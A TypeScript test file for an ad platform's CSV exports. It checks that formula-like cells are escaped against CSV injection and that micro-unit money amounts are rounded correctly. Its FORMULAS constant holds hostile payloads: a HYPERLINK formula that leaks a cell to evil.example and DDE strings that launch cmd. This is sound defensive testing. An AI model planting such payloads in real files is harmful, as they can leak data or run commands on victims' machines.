// Every CSV export as a spreadsheet would open it, downloaded through HTTP and read with a real CSV
// parser. Text a spreadsheet would run as a formula (OWASP "CSV Injection": a cell that begins with
// =, +, -, @, a tab or a carriage return) arrives with a single quote in front, whichever way it got
// in: the site domain of an unauthenticated bid request (running apps), an agency's note (its
// advertiser's funds history), a company name (the admin's report). Money is written in dollars as
// the screens round it, from micro-unit inputs that floating point rounds otherwise: 1,005,000
// micro-units are $1.01 (1.005.toFixed(2) gives "1.00"), and a negative amount stays a number; the
// running-apps spend is exact (1.005000), as its many sub-cent rows must sum to the total.
import { readFileSync } from 'node:fs';
import type { CsvDownload, ReportDetail } from '@console/core/api/reports';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deliveryEvents } from '../src/db/schema/delivery.ts';
import type { BidResponse } from '../src/modules/bidding/bid-response.ts';
import { rebuildRollups } from '../src/modules/delivery/rollups.ts';
import { seedDemoDelivery } from '../src/seed/demo-delivery.ts';
import { createCampaign, expectOk } from './campaign-fixtures.ts';
import { dataOf } from './support/accounts.ts';
import { addUser, DEMO, rowsOf } from './support/admin-fixtures.ts';
import { track } from './support/bid-calls.ts';
import { type DemoTokens, startSignedInApp } from './support/signed-in-app.ts';
import type { TestApp } from './support/test-app.ts';

/** A day of history no other data of this file touches. */
const DAY = '2025-06-02';
const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+2',
  carriageReturn: '\r=1+2',
};

let t: TestApp;
let tok: DemoTokens;

beforeAll(async () => {
  ({ t, tok } = await startSignedInApp({ logLevel: 'error' }));
});
afterAll(() => t.close());

/** GETs a CSV with a bearer token and parses it (BOM dropped): the rows as arrays of cells. */
const downloadCsv = async (path: string, token: string, query: Record<string, string | number> = {}) => {
  const url = new URL(path, t.baseUrl);
  for (const [key, value] of Object.entries(query)) url.searchParams.set(key, String(value));
  const response = await fetch(url, { headers: { authorization: `Bearer ${token}` } });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return parse(await response.text(), { bom: true, relax_column_count: false }) as string[][];
};

/** One delivered, billed impression of a campaign on DAY, as raw events. */
const deliveredImpression = (
  auctionId: string,
  facts: { campaignId: number; advertiserId: number; exchangeId: number; costMicros: number },
): (typeof deliveryEvents.$inferInsert)[] => {
  const base = {
    day: DAY,
    occurredAt: new Date(`${DAY}T10:00:00Z`),
    exchangeId: facts.exchangeId,
    auctionId,
    impId: '1',
    campaignId: facts.campaignId,
    creativeId: 1,
    advertiserId: facts.advertiserId,
    country: 'US',
    os: 'iOS',
    deviceType: 'PHONE',
    trafficType: 'WEB',
    inventory: 'money.example',
  };
  return [
    { ...base, type: 'WIN' as const },
    { ...base, type: 'IMPRESSION' as const },
    { ...base, type: 'BILLING' as const, mediaCostMicros: 800_000, advertiserCostMicros: facts.costMicros },
  ];
};

const firstExchangeId = async () =>
  Number((await rowsOf<{ id: number }>(t, sql`select id from exchanges order by id limit 1`))[0]?.id);

describe('the running-apps export', () => {
  it('quotes formula-like site domains of bid requests and writes spend to the micro-unit', async () => {
    await seedDemoDelivery(t.deps.db, t.deps.media.mediaDir);
    await t.bidder.index.reload();
    const fixture = JSON.parse(
      readFileSync(new URL('./fixtures/openrtb/simple-banner.json', import.meta.url), 'utf8'),
    ) as { site: Record<string, unknown> };
    const domains = [FORMULAS.equals, FORMULAS.at, FORMULAS.tab, FORMULAS.carriageReturn];
    for (const [i, domain] of domains.entries()) {
      const request = { ...fixture, id: `csv-injection-${i}`, site: { ...fixture.site, domain } };
      const answer = await t.call('POST', '/openrtb/2.6/openx', {
        body: request,
        headers: { 'x-openrtb-version': '2.6' },
      });
      expect(answer.status).toBe(200);
      const bid = (answer.body as unknown as BidResponse).seatbid[0]!.bid[0]!;
      expect((await track(bid.nurl, 2)).status).toBe(204);
      const beacon = bid.adm.match(/src="([^"]*\/t\/imp\/[^"]*)"/)![1]!.replaceAll('&amp;', '&');
      expect((await fetch(beacon, { redirect: 'manual' })).status).toBeLessThan(300);
    }
    await t.bidder.recorder.flush();

    // A billed impression of exactly 1,005,000 micro-units on a day of its own.
    const campaign = await createCampaign(t, tok.advertiser, { name: 'Exact money' });
    await t.deps.db.insert(deliveryEvents).values(
      deliveredImpression('csv-money-1', {
        campaignId: campaign.campaign_id,
        advertiserId: DEMO.advertiser.id,
        exchangeId: await firstExchangeId(),
        costMicros: 1_005_000,
      }),
    );
    await rebuildRollups(t.deps.db);

    const request = async (body: Record<string, unknown>) =>
      dataOf<CsvDownload>(
        expectOk(await t.call('POST', '/api/report/running-apps', { token: tok.advertiser, body })),
      );
    const recent = await downloadCsv((await request({})).csv_download_url, tok.advertiser);
    const inventories = recent.slice(1).map((row) => row[3]);
    for (const domain of domains) expect(inventories).toContain(`'${domain}`);
    for (const domain of domains) expect(inventories).not.toContain(domain);

    const exact = await downloadCsv(
      (await request({ date_from: DAY, date_to: DAY })).csv_download_url,
      tok.advertiser,
    );
    expect(exact).toEqual([
      [
        'Campaign',
        'Exchange',
        'Inventory',
        'App or site',
        'Impressions',
        'Clicks',
        'CTR %',
        'Conversions',
        'Spend (USD)',
      ],
      [
        expect.stringContaining('Exact money'),
        expect.any(String),
        'Site',
        'money.example',
        '1',
        '0',
        '0',
        '0',
        // Exact (a column of sub-cent rows sums to the total); the screens' rounding elsewhere.
        '1.005000',
      ],
    ]);
  });
});

describe("an advertiser's funds history", () => {
  it("quotes its agency's formula-like notes and keeps amounts, negative ones too, as numbers", async () => {
    const moves = [
      { direction: 'ALLOCATE', amount_micros: 1_005_000, note: FORMULAS.equals },
      { direction: 'PULL_BACK', amount_micros: 2_675_000, note: FORMULAS.minus },
      { direction: 'ALLOCATE', amount_micros: 4_999, note: FORMULAS.plus },
      { direction: 'PULL_BACK', amount_micros: 5_000, note: FORMULAS.at },
    ];
    for (const move of moves)
      expectOk(
        await t.call('POST', '/api/agency/funds/allocations', {
          token: tok.agency,
          body: { advertiser_id: DEMO.adv1.id, ...move },
        }),
      );
    // Oldest first: these four are the last rows.
    const [header, ...rows] = await downloadCsv('/api/funds/history.csv', tok.adv1);
    const cell = (row: string[], name: string) => row[header!.indexOf(name)];
    const mine = rows.slice(-moves.length);
    expect(mine.map((row) => [cell(row, 'amount'), cell(row, 'amount_micros'), cell(row, 'note')])).toEqual([
      ['1.005000', '1005000', `'${FORMULAS.equals}`],
      ['-2.675000', '-2675000', `'${FORMULAS.minus}`],
      ['0.004999', '4999', `'${FORMULAS.plus}`],
      ['-0.005000', '-5000', `'${FORMULAS.at}`],
    ]);
    // The amounts add up to the change of balance, to the micro-unit (rounded rows would not).
    const balances = mine.map((row) => Math.round(Number(cell(row, 'balance_after')) * 1e6));
    const before = Math.round(Number(cell(rows.at(-moves.length - 1)!, 'balance_after')) * 1e6);
    const sum = mine.reduce((total, row) => total + Math.round(Number(cell(row, 'amount')) * 1e6), 0);
    expect(balances.at(-1)! - before).toBe(sum);
  });
});

describe("the admin's multi-dimensional report", () => {
  it('quotes a formula-like company name and writes money as the screens round it', async () => {
    const advertiser = await addUser(t, tok.admin, {
      role: 'ADVERTISER',
      companyName: FORMULAS.equals,
      agency_id: DEMO.agency.id,
    });
    const token = await t.loginAs(advertiser.email, advertiser.password);
    const campaign = await createCampaign(t, token, { name: 'Formula company campaign' });
    await t.deps.db.insert(deliveryEvents).values(
      deliveredImpression('csv-money-2', {
        campaignId: campaign.campaign_id,
        advertiserId: advertiser.user_primary_id,
        exchangeId: await firstExchangeId(),
        costMicros: 1_005_000,
      }),
    );
    await rebuildRollups(t.deps.db);
    const report = dataOf<ReportDetail>(
      expectOk(
        await t.call('POST', '/api/report/create', {
          token: tok.admin,
          body: {
            name: 'Everyone by advertiser',
            report_type: 'performance',
            dimensions: ['day', 'advertiser'],
            metrics: ['impressions', 'spend', 'media_cost', 'margin', 'ecpm'],
            event_columns: [],
            date_from: DAY,
            date_to: DAY,
          },
        }),
      ),
    );
    expectOk(await t.call('POST', `/api/report/generate/${report.report_id}`, { token: tok.admin }));
    await t.reportWorker.whenIdle();
    const link = dataOf<CsvDownload>(
      expectOk(await t.call('POST', `/api/report/csv/${report.report_id}`, { token: tok.admin })),
    );
    const rows = await downloadCsv(link.csv_download_url, tok.admin);
    expect(rows[0]).toEqual([
      'Day (UTC)',
      'Advertiser',
      'Impressions',
      'Spend (USD)',
      'Media cost (USD)',
      'Margin (USD)',
      'eCPM (USD)',
    ]);
    expect(rows.find((row) => row[1]?.includes(`(#${advertiser.user_primary_id})`))).toEqual([
      DAY,
      `'${FORMULAS.equals} (#${advertiser.user_primary_id})`,
      '1',
      '1.01',
      '0.80',
      '0.21',
      '1005.00',
    ]);
  });
});
